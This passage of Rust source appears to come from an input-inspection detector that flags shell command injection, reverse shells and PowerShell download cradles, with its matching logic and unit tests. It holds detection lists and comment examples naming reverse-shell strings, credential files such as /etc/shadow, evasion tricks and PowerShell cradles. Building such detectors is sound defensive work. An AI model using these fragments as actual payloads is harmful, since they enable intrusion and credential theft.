                    None => return true,
                    Some(name) if command(name).is_some_and(|(_, windows)| windows) => {
                        return true;
                    }
                    Some(_) => {}
                }
            }
            slash_first |= leading;
            leading = false;
            component = at + 1;
            component_quoted = false;
            continue;
        }
        if k & class::GLOB != 0 {
            has_glob = true;
        }
        if k & class::SPLIT == 0 || quote != 0 {
            leading = false;
            continue;
        }
        if piece < at {
            // A piece out of command position is neither a command nor a
            // wrapper that counts, so it is not named at all.
            last_wrapper = false;
            if position {
                let Some(base) = component_name(&s[component..at], component_quoted, &mut buf)
                else {
                    return true;
                };
                // (`strip_version` leaves nothing of a name that does not
                // end in a digit or a dot.)
                if command(base).is_some()
                    || (base
                        .as_bytes()
                        .last()
                        .is_some_and(|c| c.is_ascii_digit() || *c == b'.')
                        && command(strip_version(base)).is_some())
                {
                    return true;
                }
                last_wrapper = wrapper_shaped(base) && is_wrapper_name(base);
            }
            last_position = position;
            gap_operator = false;
            gap_soft = false;
        }
        gap_operator |= k & class::OPERATOR != 0;
        gap_soft |= k & class::SOFT != 0;
        position = gap_operator || last_wrapper || (gap_soft && last_position);
        piece = at + 1;
        leading = true;
        component = at + 1;
        component_quoted = false;
    }
    has_glob && slash_first
}

/// The last path component of a piece ([`commands_may_report`]) with its
/// quotes and a `.exe` dropped, as `program_name` would give it (copied to
/// `buf` when there are quotes to drop); `None` when too long to copy (the
/// caller then assumes the worst).
fn component_name<'a>(component: &'a str, quoted: bool, buf: &'a mut [u8; 64]) -> Option<&'a str> {
    let name = if quoted {
        let mut n = 0;
        for &c in component.as_bytes() {
            if class::OF[usize::from(c)] != class::QUOTE {
                *buf.get_mut(n)? = c;
                n += 1;
            }
        }
        // Dropping ASCII quotes from a `str` leaves a `str`.
        std::str::from_utf8(&buf[..n]).ok()?
    } else {
        component
    };
    Some(name.strip_suffix(".exe").unwrap_or(name))
}

fn commands(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'_>) {
    let lexed = scratch.lexed.get_or_insert_with(|| Lexed {
        pieces: Vec::new(),
        text: String::new(),
    });
    lex(lower, lexed);
    let pieces = &lexed.pieces;
    let word_text = |p: &Piece| match p {
        Piece::Word {
            text_start,
            text_end,
            ..
        } => &lexed.text[*text_start..*text_end],
        Piece::Op(_) => "",
    };
    let mut after: Option<Op> = None;
    let mut at_start = true;
    let mut substitutions_open = 0usize;
    // The word after a wrapper (`time`, `nohup`, `sudo`, ...) is a command too.
    let mut wrapped: Option<Option<Op>> = None;
    // The previous word was a lone variable in command position.
    let mut after_spacer = false;
    // Shell assignments seen in command position (`a=nc`), most recent last.
    let mut assigned: [(&str, &str); 8] = [("", ""); 8];
    let mut n_assigned = 0;
    for (idx, piece) in pieces.iter().enumerate() {
        match piece {
            Piece::Op(op) => {
                match op {
                    Op::SubstOpen => substitutions_open += 1,
                    Op::Backtick => substitutions_open = (substitutions_open + 1) % 2,
                    Op::Close => substitutions_open = substitutions_open.saturating_sub(1),
                    _ => {}
                }
                if *op != Op::Redirect && *op != Op::Close {
                    after = Some(*op);
                    at_start = false;
                }
                continue;
            }
            Piece::Word {
                start,
                end,
                evasive,
                glob,
                ..
            } => {
                let (position, in_command_position) = match wrapped.take() {
                    Some(outer) => (Some(outer.unwrap_or(Op::Separator)), true),
                    None => (
                        if at_start { None } else { after },
                        at_start || after.is_some(),
                    ),
                };
                after = None;
                let word = word_text(piece);
                // A globbed path to a shell or a password file is written to
                // reach it without spelling it, as a command or an argument.
                if *glob
                    && word.starts_with('/')
                    && GLOB_TARGETS
                        .iter()
                        .any(|t| glob_matches(word.as_bytes(), t.as_bytes()))
                {
                    sink.report(
                        &rules::RCE_EVASION,
                        lower,
                        *start..(*end + 24).min(lower.len()),
                    );
                    at_start = false;
                    continue;
                }
                if !in_command_position {
                    at_start = false;
                    continue;
                }
                let leading = at_start;
                at_start = false;
                // A URL is an argument, never a command (`file:///etc/passwd`).
                if crate::text::contains(word, "://") {
                    continue;
                }
                // cmd.exe ends a command name at `/`: `ipconfig/all`,
                // `&bcdboot/r x` (a Windows command glued to its switch;
                // English words such as `type/b` are left out).
                if let Some((name, switch)) = word.split_once('/')
                    && (1..=12).contains(&switch.len())
                    && switch
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'?' | b':' | b'-'))
                    && command(name) == Some((false, true))
                    && (position.is_some() || leading)
                {
                    sink.report(
                        &rules::RCE_WINDOWS_COMMAND,
                        lower,
                        *start..(*end + 24).min(lower.len()),
                    );
                    continue;
                }
                let base = program_name(word);
                let known = command(base).or_else(|| command(strip_version(base)));
                // A variable alone in command position (`;$a cat x`) is
                // most likely unset, a blank before the real command.
                let spacer = variable_names(word) == Some(1);
                // `a=nc&&$a -nlvp 555`: a variable set to a command earlier
                // in the value, then run.
                if spacer
                    && let Some((_, value)) = assigned[..n_assigned]
                        .iter()
                        .find(|(name, _)| *name == &word[1..])
                    && command(value).is_some()
                {
                    sink.report(
                        &rules::RCE_EVASION,
                        lower,
                        *start..(*end + 24).min(lower.len()),
                    );
                    continue;
                }
                if let Some((name, value)) = word.split_once('=')
                    && n_assigned < assigned.len()
                    && !name.is_empty()
                    && name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                    && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                {
                    assigned[n_assigned] = (name, value);
                    n_assigned += 1;
                }
                if (is_wrapper(base) || spacer)
                    && matches!(pieces.get(idx + 1), Some(Piece::Word { .. }))
                {
                    wrapped = Some(position);
                    after_spacer = spacer && position.is_some();
                }
                // `$c1$c2$c3...`, `$a$b`: a command spelled from variables
                // set piece by piece.
                if variable_names(word).is_some_and(|n| n >= 2) {
                    sink.report(
                        &rules::RCE_EVASION,
                        lower,
                        *start..(*end + 24).min(lower.len()),
                    );
                    continue;
                }
                let path_like = word.starts_with('/') || crate::text::contains(word, ":\\");
                // Most words in command position are not commands: judge
                // only known commands and globbed paths.
                if known.is_none() && !(*glob && path_like) {
                    continue;
                }
                let mut args_buf: [&Piece; 8] = [piece; 8];
                let mut n_args = 0;
                for p in pieces[idx + 1..].iter().take(8) {
                    if !(matches!(p, Piece::Word { .. }) || matches!(p, Piece::Op(Op::Redirect))) {
                        break;
                    }
                    args_buf[n_args] = p;
                    n_args += 1;
                }
                let args = &args_buf[..n_args];
                let next = pieces.get(idx + 1);
                // `cd` takes one argument: `{cd,dvd,/vinyl}` is a list and
                // `CD / DVD player` prose.
                let arity_fits = base != "cd" || args.len() == 1;
                let shell_args = arity_fits
                    && args.iter().any(|p| match p {
                        Piece::Op(Op::Redirect) => true,
                        Piece::Word { .. } => shell_shaped(word_text(p), base),
                        _ => false,
                    });
                let span = *start..(*end + 24).min(lower.len());
                if (word.starts_with("/bin/")
                    || word.starts_with("/usr/bin/")
                    || word.starts_with("/sbin/")
                    || word.starts_with("/usr/sbin/")
                    || word.starts_with("/usr/local/bin/"))
                    && known.is_some()
                    && (!leading || !args.is_empty())
                {
                    sink.report(&rules::RCE_SHELL_PATH, lower, span.clone());
                }
                let Some((ambiguous, windows)) = known else {
                    continue;
                };
                if *evasive || std::mem::take(&mut after_spacer) {
                    sink.report(&rules::RCE_EVASION, lower, span.clone());
                    continue;
                }
                let ends_here = match next {
                    None => true,
                    Some(Piece::Op(op)) => *op != Op::Redirect,
                    _ => false,
                };
                match position {
                    // `{fish,chips}` is a list; `{cat,/etc/passwd}` a command.
                    Some(Op::BraceOpen) if !ambiguous || shell_args => {
                        sink.report(&rules::RCE_EVASION, lower, span.clone());
                    }
                    Some(Op::BraceOpen) => {}
                    Some(Op::SubstOpen) | Some(Op::Backtick) => {
                        let strong_context = matches!(position, Some(Op::SubstOpen))
                            || backtick_in_code(lower, *start);
                        if strong_context && (!ambiguous || shell_args || ends_here) {
                            sink.report(&rules::RCE_SUBSTITUTION, lower, span.clone());
                        }
                    }
                    Some(sep) => {
                        let probe_alone =
                            ends_here && is_probe(base) && !table_cell(lower, *start, *end, sep);
                        // `; sleep 10`: a timing probe after a separator.
                        let timed = matches!(base, "sleep" | "timeout")
                            && args.len() == 1
                            && matches!(args[0], Piece::Word { .. })
                            && word_text(args[0]).bytes().all(|c| c.is_ascii_digit());
                        // `;top -b`, `;at 2:00 "echo test"`: a `;` or `|`
                        // that opens the value (or a line), glued to the
                        // command word, with arguments: no text opens so,
                        // and lists glue one to the word before it
                        // (`apples;pears`).
                        let glued = !args.is_empty()
                            && matches!(sep, Op::Separator | Op::Pipe)
                            && glued_to_operator(lower.as_bytes(), *start);
                        if (!ambiguous && (shell_args || ends_here || !args.is_empty()))
                            || shell_args
                            || probe_alone
                            || timed
                            || glued
                        {
                            let rule = if windows {
                                &rules::RCE_WINDOWS_COMMAND
                            } else {
                                &rules::RCE_COMMAND_CHAIN
                            };
                            sink.report(rule, lower, span.clone());
                        }
                    }
                    None if leading => {
                        // (`echo x >/tmp/a`: output redirected to a path,
                        // after any argument.)
                        let first_shaped = match args.first() {
                            Some(Piece::Op(Op::Redirect)) => true,
                            Some(p @ Piece::Word { .. }) => shell_shaped(word_text(p), base),
                            _ => false,
                        } || args.windows(2).any(|w| {
                            matches!(w[0], Piece::Op(Op::Redirect))
                                && word_text(w[1]).starts_with('/')
                        });
                        // `sleep 5` as the whole value: a timing probe.
                        let timing_probe = matches!(base, "sleep" | "timeout")
                            && args.len() == 1
                            && matches!(args[0], Piece::Word { .. })
                            && word_text(args[0]).bytes().all(|c| c.is_ascii_digit())
                            && pieces.len() == idx + 2;
                        // A command no prose starts with, with arguments
                        // (`cscli alerts list`, `ansible-vault decrypt x`).
                        let distinctive_call =
                            !ambiguous && !args.is_empty() && is_distinctive(base);
                        // `whoami;...`, `ifconfig|...`: a command no prose
                        // starts with, then a separator, starts a command
                        // line (a trailing line break alone ends a text).
                        let chained = !ambiguous
                            && matches!(
                                next,
                                Some(Piece::Op(Op::Separator | Op::Pipe | Op::Background))
                            )
                            && (pieces.len() > idx + 2
                                || !lower[*end..]
                                    .trim_start_matches([' ', '\t'])
                                    .starts_with('\n'))
                            && !parameter_list(&lower[*end..]);
                        // `visudo\n`: a command no prose starts with, alone
                        // on a line the value ends: a command line entered.
                        let entered = !ambiguous
                            && args.is_empty()
                            && is_distinctive(base)
                            && matches!(next, Some(Piece::Op(Op::Separator)))
                            && pieces.len() == idx + 2
                            && lower[*end..]
                                .trim_start_matches([' ', '\t', '\r'])
                                .starts_with('\n');
                        let first_shaped = first_shaped && arity_fits;
                        if first_shaped || timing_probe || distinctive_call || chained || entered {
                            let rule = if windows {
                                &rules::RCE_WINDOWS_COMMAND
                            } else {
                                &rules::RCE_UNIX_COMMAND
                            };
                            sink.report(rule, lower, span.clone());
                        } else if !ambiguous && args.is_empty() {
                            sink.report(&rules::RCE_BARE_COMMAND, lower, span.clone());
                        }
                    }
                    None => {}
                }
            }
        }
    }
}

/// Whether the word at `start` follows a `;` or `|` with nothing between,
/// and that operator opens the value or a line (`;top x`, not `a;top x`,
/// `a ||top x`, nor prose typed `cats ;more than dogs`).
fn glued_to_operator(s: &[u8], start: usize) -> bool {
    start >= 1 && matches!(s[start - 1], b';' | b'|') && (start == 1 || s[start - 2] == b'\n')
}

/// Binaries and files that globbed paths (`/???/c?t`, `/etc/pas[s]wd`) are
/// written to reach without spelling them.
const GLOB_TARGETS: &[&str] = &[
    "/bin/cat",
    "/bin/sh",
    "/bin/bash",
    "/bin/nc",
    "/bin/ls",
    "/bin/netcat",
    "/bin/busybox",
    "/bin/dash",
    "/usr/bin/id",
    "/usr/bin/whoami",
    "/usr/bin/wget",
    "/usr/bin/curl",
    "/usr/bin/uname",
    "/usr/bin/nc",
    "/usr/bin/python",
    "/usr/bin/python3",
    "/usr/bin/perl",
    "/usr/bin/cat",
    "/usr/bin/env",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/etc/group",
    "/etc/issue",
    "/bin/id",
    "/bin/uname",
    "/usr/bin/base64",
    "/usr/bin/bash",
    "/usr/bin/sh",
    "/etc/sudoers",
    "/etc/crontab",
    "/proc/self/environ",
];

/// Shell glob matching (`?`, `*`, `[...]` with ranges and `!`/`^`) of a short
/// pattern against a short path. `*` stays within one path segment, as in
/// the shell. Iterative with one backtrack point per segment: at most
/// pattern × text steps, whatever the stars.
fn glob_matches(pattern: &[u8], text: &[u8]) -> bool {
    if pattern.len() > 64 {
        return false;
    }
    let (mut p, mut t) = (0, 0);
    // The last star (pattern index after it) and the text index it resumed at.
    let mut star: Option<(usize, usize)> = None;
    while t < text.len() {
        let step = match pattern.get(p) {
            Some(b'*') => {
                star = Some((p + 1, t));
                p += 1;
                continue;
            }
            Some(b'?') => (text[t] != b'/').then_some(1),
            Some(b'[') => match bracket(&pattern[p..], text[t]) {
                Some((len, true)) => Some(len),
                Some((_, false)) => None,
                None => (text[t] == b'[').then_some(1),
            },
            Some(&c) => (c == text[t]).then_some(1),
            None => None,
        };
        if let Some(len) = step {
            p += len;
            t += 1;
        } else if let Some((sp, st)) = star
            && text[st] != b'/'
        {
            star = Some((sp, st + 1));
            p = sp;
            t = st + 1;
        } else {
            return false;
        }
    }
    pattern[p..].iter().all(|b| *b == b'*')
}

/// A bracket expression at the start of `pattern` against `c`: its length
/// and whether it matches, or `None` when the `[` is not closed.
fn bracket(pattern: &[u8], c: u8) -> Option<(usize, bool)> {
    let close = pattern.iter().skip(2).position(|b| *b == b']')? + 2;
    let mut set = &pattern[1..close];
    let negate = matches!(set.first(), Some(b'!' | b'^'));
    if negate {
        set = &set[1..];
    }
    let mut hit = false;
    let mut k = 0;
    while k < set.len() {
        if k + 2 < set.len() && set[k + 1] == b'-' {
            hit |= (set[k]..=set[k + 2]).contains(&c);
            k += 3;
        } else {
            hit |= set[k] == c;
            k += 1;
        }
    }
    Some((close + 1, hit != negate))
}

/// How many `$name` references a word is made of, when it is nothing else
/// (`$a` → 1, `$c1$c2$c3` → 3, `$5`, `a$b` → none).
fn variable_names(word: &str) -> Option<usize> {
    let rest = word.strip_prefix('$')?;
    let mut n = 0;
    for name in rest.split('$') {
        let ok = name.len() <= 16
            && name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
        if !ok {
            return None;
        }
        n += 1;
    }
    Some(n)
}

/// Commands that run the command after them (`time sh -c id`). `.` and
/// `source` run a file: `. rm -rf /` still reads as a command. (The same
/// as `is_wrapper` matches, a test checks: the list shapes its filter.)
const WRAPPERS: &[&str] = &[
    ".", "source", "time", "nohup", "strace", "ltrace", "sudo", "doas", "env", "exec", "command",
    "builtin", "setsid", "unbuffer", "stdbuf", "nice", "ionice", "xargs", "watch", "pkexec",
    "runuser",
];

fn is_wrapper(name: &str) -> bool {
    wrapper_shaped(name) && is_wrapper_name(name)
}

/// Whether `name` has the length, first and last byte of a wrapper: most
/// words are turned away here without a compare. (Inlined: it runs for
/// every word [`commands_may_report`] reads.)
#[inline]
fn wrapper_shaped(name: &str) -> bool {
    /// Per length, the first bytes of the wrappers that long (one bit per
    /// byte modulo 64), and their last bytes: a wrapper has both.
    const SHAPES: [(u64, u64); 9] = {
        let mut t = [(0u64, 0u64); 9];
        let mut i = 0;
        while i < WRAPPERS.len() {
            let w = WRAPPERS[i].as_bytes();
            t[w.len()].0 |= 1 << (w[0] & 63);
            t[w.len()].1 |= 1 << (w[w.len() - 1] & 63);
            i += 1;
        }
        t
    };
    let b = name.as_bytes();
    let (Some(first), Some(last)) = (b.first(), b.last()) else {
        return false;
    };
    SHAPES.get(b.len()).is_some_and(|(firsts, lasts)| {
        firsts & (1 << (first & 63)) != 0 && lasts & (1 << (last & 63)) != 0
    })
}

/// Whether `name` is one of the [`WRAPPERS`].
fn is_wrapper_name(name: &str) -> bool {
    matches!(
        name,
        "." | "source"
            | "time"
            | "nohup"
            | "strace"
            | "ltrace"
            | "sudo"
            | "doas"
            | "env"
            | "exec"
            | "command"
            | "builtin"
            | "setsid"
            | "unbuffer"
            | "stdbuf"
            | "nice"
            | "ionice"
            | "xargs"
            | "watch"
            | "pkexec"
            | "runuser"
    )
}

/// The sqlite3 shell's dot-commands that run programs, read or write files
/// or dump the database (`.shell`, `.system`, `.sh`, `.load`, `.dump`...).
const SQLITE_DOT_COMMANDS: &[&str] = &[
    "shell",
    "system",
    "sh",
    "databases",
    "tables",
    "dump",
    "load",
    "read",
    "output",
    "once",
    "import",
    "open",
    "schema",
    "backup",
    "restore",
    "excel",
];

/// A sqlite3 dot-command at the start of a statement: after `;` or a line
/// break (blanks, a literal `\n` and an opening quote allowed), `.shell
/// nc ...`, `1;.sh whoami`, `;\n.databases`: a value that reaches the
/// sqlite3 command-line shell runs programs this way.
fn sqlite_dot_command(lower: &str) -> Option<usize> {
    let s = lower.as_bytes();
    for p in memchr::memchr_iter(b'.', s) {
        // Walk back over blanks and literal `\n` to a statement end.
        let mut j = p;
        loop {
            if j > 0 && matches!(s[j - 1], b' ' | b'\t' | b'\r' | b'\n') {
                j -= 1;
            } else if j > 1 && s[j - 1] == b'n' && s[j - 2] == b'\\' {
                j -= 2;
            } else {
                break;
            }
        }
        if j == 0 || !matches!(s[j - 1], b';' | b'\n') {
            continue;
        }
        let mut k = p + 1;
        while k < s.len() && k <= p + 3 && matches!(s[k], b'"' | b'\'' | b'\\') {
            k += 1;
        }
        let word_len = s[k..].iter().take_while(|b| b.is_ascii_lowercase()).count();
        let word = &lower[k..k + word_len];
        let boundary = s
            .get(k + word_len)
            .is_none_or(|b| matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\\' | b'"' | b'\''));
        if boundary && SQLITE_DOT_COMMANDS.contains(&word) {
            return Some(j - 1);
        }
    }
    None
}

/// `python3.10` → `python`, `gcc7.4` → `gcc`: versioned binary names.
fn strip_version(name: &str) -> &str {
    let t = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if t.len() >= 2 && t.len() < name.len() {
        t
    } else {
        ""
    }
}

/// Command names that are not English words, so a value starting with one
/// and arguments is a command line (`cscli alerts list`).
fn is_distinctive(name: &str) -> bool {
    name.contains('-')
        || name.bytes().any(|b| b.is_ascii_digit())
        || matches!(
            name,
            "ansible"
                | "visudo"
                | "cscli"
                | "whoami"
                | "ifconfig"
                | "ipconfig"
                | "wget"
                | "netcat"
                | "ncat"
                | "busybox"
                | "nslookup"
                | "traceroute"
                | "netstat"
                | "lsof"
                | "crontab"
                | "useradd"
                | "usermod"
                | "chmod"
                | "chown"
                | "iptables"
                | "tcpdump"
                | "socat"
                | "mkfifo"
                | "strace"
                | "ltrace"
                | "gdb"
                | "nohup"
                | "systemctl"
                | "journalctl"
                | "powershell"
                | "certutil"
                | "bitsadmin"
                | "wmic"
                | "tasklist"
                | "taskkill"
                | "mshta"
                | "cscript"
                | "wscript"
                | "schtasks"
                | "msiexec"
                | "vssadmin"
                | "bcdedit"
                | "icacls"
                | "regedit"
                | "bcdboot"
                | "lastlog"
                | "lastlogin"
                | "cpulimit"
                | "uconv"
                | "bsdtar"
                | "aptitude"
                | "htop"
                | "msfconsole"
                | "msfvenom"
                | "sqlmap"
                | "nikto"
                | "mimikatz"
                | "psexec"
                | "netsh"
                | "xcopy"
                | "robocopy"
                | "findstr"
                | "cmdkey"
                | "forfiles"
                | "wevtutil"
                | "takeown"
                | "cacls"
                | "nltest"
                | "dsquery"
                | "rundll32"
                | "regsvr32"
                | "systeminfo"
                | "qwinsta"
                | "nmap"
                | "pipx"
        )
}

/// Arguments a shell command gets and prose does not.
fn shell_shaped(arg: &str, command: &str) -> bool {
    if command == "alias" && arg.contains('=') {
        return true;
    }
    // `cd /`, `cd ..`, `cd -`: to the root, up, back.
    if command == "cd" && matches!(arg, "/" | ".." | "-") {
        return true;
    }
    let b = arg.as_bytes();
    match b.first() {
        None => false,
        // `-la`, `-e`, `--help`; a long single-dash word is a search operator (`-free`).
        Some(b'-') => {
            b.get(1)
                .is_some_and(|c| *c == b'-' && b.len() > 3 && b[2].is_ascii_alphabetic())
                || (b.len() <= 5 && b.get(1).is_some_and(u8::is_ascii_alphanumeric))
        }
        Some(b'/') => {
            b.len() > 1
                && (command == "dir"
                    || b[1].is_ascii_alphanumeric()
                    || b[1] == b'.'
                    || b[1] == b'?')
        }
        // `set +e`, `alias +g+`: the `+` form turns a builtin's option off.
        Some(b'+') => {
            b.len() <= 3
                && b.get(1).is_some_and(u8::is_ascii_alphabetic)
                && b[2..].iter().all(|c| *c == b'+' || c.is_ascii_alphabetic())
        }
        Some(b'~' | b'$' | b'\\') => true,
        Some(b'.') => arg.starts_with("./") || arg.starts_with("../") || arg.starts_with(".\\"),
        _ => {
            (arg.contains('/') && !arg.starts_with("http") && arg.split('/').count() > 2)
                || (arg.len() > 2
                    && arg.as_bytes()[1] == b':'
                    && matches!(arg.as_bytes()[2], b'\\' | b'/'))
                || arg.contains('\\')
                || arg.starts_with("http://")
                || arg.starts_with("https://")
                || (command == "net"
                    && matches!(
                        arg,
                        "user"
                            | "users"
                            | "localgroup"
                            | "view"
                            | "share"
                            | "use"
                            | "group"
                            | "session"
                            | "accounts"
                            | "start"
                            | "stop"
                    ))
                || (command == "reg"
                    && matches!(arg, "query" | "add" | "delete" | "save" | "export"))
                || (command == "sc"
                    && matches!(arg, "query" | "create" | "config" | "start" | "stop"))
                || (command == "which" && self::command(arg).is_some())
                || is_ipv4_literal(arg)
        }
    }
}

fn is_ipv4_literal(s: &str) -> bool {
    let mut parts = 0;
    for p in s.split('.') {
        parts += 1;
        if parts > 4 || p.is_empty() || p.len() > 3 || !p.bytes().all(|c| c.is_ascii_digit()) {
            return false;
        }
    }
    parts == 4
}

/// A backtick that opens shell code rather than a Markdown code span: right
/// after a shell character, or at the very start of the value.
fn backtick_in_code(lower: &str, word_start: usize) -> bool {
    let s = lower.as_bytes();
    let Some(tick) = s[..word_start].iter().rposition(|b| *b == b'`') else {
        return true;
    };
    if tick == 0 {
        return true;
    }
    matches!(
        s[tick - 1],
        b';' | b'=' | b'\'' | b'"' | b'(' | b'|' | b'&' | b'$' | b'>' | b'<' | b'{' | b',' | b'`'
    )
}

/// `| id |` in a Markdown table: a word between pipes with spaces around.
fn table_cell(lower: &str, start: usize, end: usize, sep: Op) -> bool {
    if sep != Op::Pipe {
        return false;
    }
    let s = lower.as_bytes();
    let before_space = start > 0 && s[start - 1] == b' ';
    let after_space = s.get(end) == Some(&b' ');
    before_space && after_space
}

/// Literals of reverse shells and listeners.
const REVERSE_SHELL_NEEDLES: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "bash -i",
    "sh -i",
    "nc -e",
    "nc -c",
    "ncat -e",
    "nc.traditional",
    "mkfifo /tmp",
    "socket(s,pf_inet",
    "fsockopen(",
    "pty.spawn(",
    "0<&196",
    "exec 5<>",
    "-e /bin/sh",
    "-e /bin/bash",
    "-e cmd.exe",
    "socket.socket(",
    "tcpsocket.new(",
    "tcpsocket.open(",
    "new socket(",
    "lvnp ",
    "-lvp ",
    "-lvvp ",
];

fn reverse_shells(lower: &str, sink: &mut Sink<'_>) {
    static NEEDLES_1: crate::text::NeedleSet = crate::text::NeedleSet::new(REVERSE_SHELL_NEEDLES);
    if let Some((p, needle)) = NEEDLES_1.find_iter(lower).next() {
        sink.report(
            &rules::RCE_REVERSE_SHELL,
            lower,
            p..(p + needle.len() + 16).min(lower.len()),
        );
    }
}

/// Literals of PowerShell download cradles, evasion flags and cmdlets.
const POWERSHELL_NEEDLES: &[&str] = &[
    "invoke-expression",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-command",
    "invoke-mimikatz",
    "invoke-shellcode",
    "downloadstring(",
    "downloadfile(",
    "downloaddata(",
    "net.webclient",
    "-encodedcommand",
    "-executionpolicy bypass",
    "-exec bypass",
    "-ep bypass",
    "-windowstyle hidden",
    "-w hidden",
    "-nop ",
    "start-process",
    "frombase64string(",
    "set-mppreference",
    "new-object system.",
    "new-object io.",
    "get-wmiobject",
    "[system.diagnostics.process]",
    "[diagnostics.process]",
    "iex(",
    "iex (",
    "| iex",
    "|iex",
    "powershell -e ",
    "powershell.exe -e",
    "add-mppreference",
    "get-content c:",
    "invoke-item",
];

fn powershell(lower: &str, sink: &mut Sink<'_>) {
    if !lower.contains('-')
        && !crate::text::contains(lower, "::")
        && !crate::text::contains(lower, "iex")
        && !lower.contains('(')
    {
        return;
    }
    static NEEDLES_2: crate::text::NeedleSet = crate::text::NeedleSet::new(POWERSHELL_NEEDLES);
    if let Some((p, needle)) = NEEDLES_2.find_iter(lower).next() {
        sink.report(
            &rules::RCE_POWERSHELL,
            lower,
            p..(p + needle.len() + 16).min(lower.len()),
        );
    }
}

#[cfg(test)]
mod round2_tests {
    use super::*;
    use crate::{Detection, DetectorSettings};

    fn ids(value: &str) -> Vec<&'static str> {
        let settings = DetectorSettings::default();
        let mut out: Vec<Detection> = Vec::new();
        let mut sink = Sink::new(&settings, &mut out, crate::Decoding::Normalized);
        inspect(
            &value.to_ascii_lowercase(),
            &mut ShellScratch::default(),
            &mut sink,
        );
        out.iter().map(|d| d.rule.id).collect()
    }

    #[test]
    fn command_table_agrees_with_the_lists() {
        let mut words: Vec<String> = Vec::new();
        for name in ALL_COMMANDS {
            for cut in 0..=name.len() {
                words.push(name[..cut].to_owned());
                words.push(name[cut..].to_owned());
            }
            words.push(format!("{name}s"));
            words.push(format!("{name}\0"));
            words.push(format!("x{name}"));
        }
        for w in &words {
            let expected = if w.is_empty() || w.len() > 20 {
                None
            } else {
                command_uncached(w)
            };
            assert_eq!(command(w), expected, "{w:?}");
        }
    }

    /// `commands_may_report` may only say "no" where `commands` reports
    /// nothing: checked on every value built from shell-shaped fragments.
    #[test]
    fn skipped_lexing_never_hides_a_report() {
        for name in ALL_COMMANDS {
            assert!(
                name.bytes().all(|c| class::OF[usize::from(c)] == 0),
                "{name}"
            );
        }
        let fragments = [
            "c'a't",
            "/???/c?t",
            "id",
            ";",
            "|",
            " ",
            "'",
            "\"",
            "(",
            ")",
            ",",
            "{",
            "}",
            "/bin/",
            "cat",
            "/etc/passwd",
            "python3.10",
            "x",
            "-la",
            "&&",
            "a=b",
            "/",
            "*",
            "ls.exe",
            "\"i\"d",
            "o'brien",
            "it's",
            "&",
            "\n",
            "who",
            "ami",
            "[",
            "?",
            "sleep",
            "5",
            "net",
            "user",
            "/usr/bin/",
            "wget",
            "http://x/y",
            ".",
            "cmd",
            "/c",
            "(50%",
            "'/",
            "e??/p*d",
            "nohup",
            "sudo",
            "{,",
            "x(",
            " (",
            "a,b",
            "{",
            "}",
            "}(",
            ",",
            "\t",
            "\"'",
            "'\"",
            "time ",
            "at",
            "ls",
            "l",
            "s",
            "py",
            "thon3.9",
            "\"/",
        ];
        let settings = DetectorSettings::default();
        let mut scratch = ShellScratch::default();
        let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
        let mut value = String::new();
        let rounds: usize = std::env::var("SKIP_ROUNDS")
            .ok()
            .and_then(|r| r.parse().ok())
            .unwrap_or(40_000);
        let (mut reported, mut skipped) = (0, 0);
        for _ in 0..rounds {
            value.clear();
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            for _ in 0..1 + (seed >> 60) % 7 {
                seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                value.push_str(fragments[((seed >> 33) % fragments.len() as u64) as usize]);
            }
            let mut out: Vec<Detection> = Vec::new();
            let mut sink = Sink::new(&settings, &mut out, crate::Decoding::Normalized);
            commands(&value, &mut scratch, &mut sink);
            let may = commands_may_report(&value);
            assert!(out.is_empty() || may, "{value:?}: {out:?}");
            reported += usize::from(!out.is_empty());
            skipped += usize::from(!may);
        }
        // Both answers are exercised.
        assert!(
            reported > rounds / 20 && skipped > rounds / 20,
            "{reported} {skipped}"
        );
        assert!(!commands_may_report(
            "please drop off at 5pm; select the plan (50% off?)"
        ));
        assert!(!commands_may_report("reilly & sons, ltd."));
    }

    /// A lone word is at most a bare command (`lone_word`), at paranoia 4.
    #[test]
    fn a_lone_word_is_at_most_a_bare_command() {
        let settings = DetectorSettings {
            paranoia_level: 4,
            ..DetectorSettings::default()
        };
        let mut scratch = ShellScratch::default();
        let mut bare = 0;
        for name in ALL_COMMANDS {
            for word in [
                (*name).to_owned(),
                format!("{name}.exe"),
                format!("{name}3.9"),
                format!("{name}-x"),
                format!("_{name}"),
            ] {
                if !lone_word(&word) {
                    continue;
                }
                let mut out: Vec<Detection> = Vec::new();
                let mut sink = Sink::new(&settings, &mut out, crate::Decoding::Normalized);
                commands(&word, &mut scratch, &mut sink);
                assert!(
                    out.iter()
                        .all(|d| std::ptr::eq(d.rule, &rules::RCE_BARE_COMMAND)),
                    "{word:?}: {out:?}"
                );
                bare += out.len();
            }
        }
        assert!(bare > 100, "{bare}");
    }

    /// The anchor test finds a needle wherever the automaton does: on every
    /// needle alone, inside text, cut short, and glued to others.
    #[test]
    fn anchored_needles_agree_with_the_automaton() {
        let both = Anchored::new(&[
            (REVERSE_SHELL_NEEDLES, list::REVERSE_SHELL),
            (POWERSHELL_NEEDLES, list::POWERSHELL),
        ]);
        let reverse = crate::text::literal_matcher(REVERSE_SHELL_NEEDLES);
        let powershell = crate::text::literal_matcher(POWERSHELL_NEEDLES);
        for needles in [REVERSE_SHELL_NEEDLES, POWERSHELL_NEEDLES] {
            assert!(needles.iter().all(|n| n.len() >= 2));
            let anchored = Anchored::new(&[(needles, 1)]);
            let automaton = crate::text::literal_matcher(needles);
            let mut values: Vec<String> = Vec::new();
            for (i, n) in needles.iter().enumerate() {
                let other = needles[(i * 7 + 3) % needles.len()];
                values.push((*n).to_owned());
                values.push(format!("x {n} y"));
                values.push(format!(
                    "{}{}",
                    &n[..n.len() / 2],
                    &other[other.len() / 2..]
                ));
